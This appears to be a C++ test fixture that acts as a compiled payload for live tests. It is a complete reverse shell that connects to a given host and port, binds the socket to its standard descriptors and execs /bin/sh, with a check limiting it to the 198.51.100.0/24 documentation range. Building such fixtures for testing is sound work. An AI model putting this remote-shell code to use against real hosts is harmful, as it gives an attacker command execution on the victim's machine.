// SPDX-License-Identifier: Apache-2.0
// Plays the small compiled payload: connects to ADDRESS PORT, puts the connection on its standard
// descriptors and becomes a shell. For the live tests' own network only.
#include <arpa/inet.h>
#include <cstdlib>
#include <netinet/in.h>
#include <unistd.h>

#include <sys/socket.h>

int main(int argc, char** argv) {
    if (argc != 3)
        return 2;
    sockaddr_in peer = {};
    peer.sin_family = AF_INET;
    peer.sin_port = htons(static_cast<in_port_t>(std::atoi(argv[2])));
    // 198.51.100.0/24 is for documentation: nothing else is ever asked to answer.
    if (inet_pton(AF_INET, argv[1], &peer.sin_addr) != 1 ||
        (ntohl(peer.sin_addr.s_addr) >> 8) != 0xc63364)
        return 2;
    const int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, reinterpret_cast<sockaddr*>(&peer), sizeof peer) != 0)
        return 1;
    for (int target = 0; target < 3; ++target)
        dup2(fd, target);
    execl("/bin/sh", "sh", static_cast<char*>(nullptr));
    return 1;
}
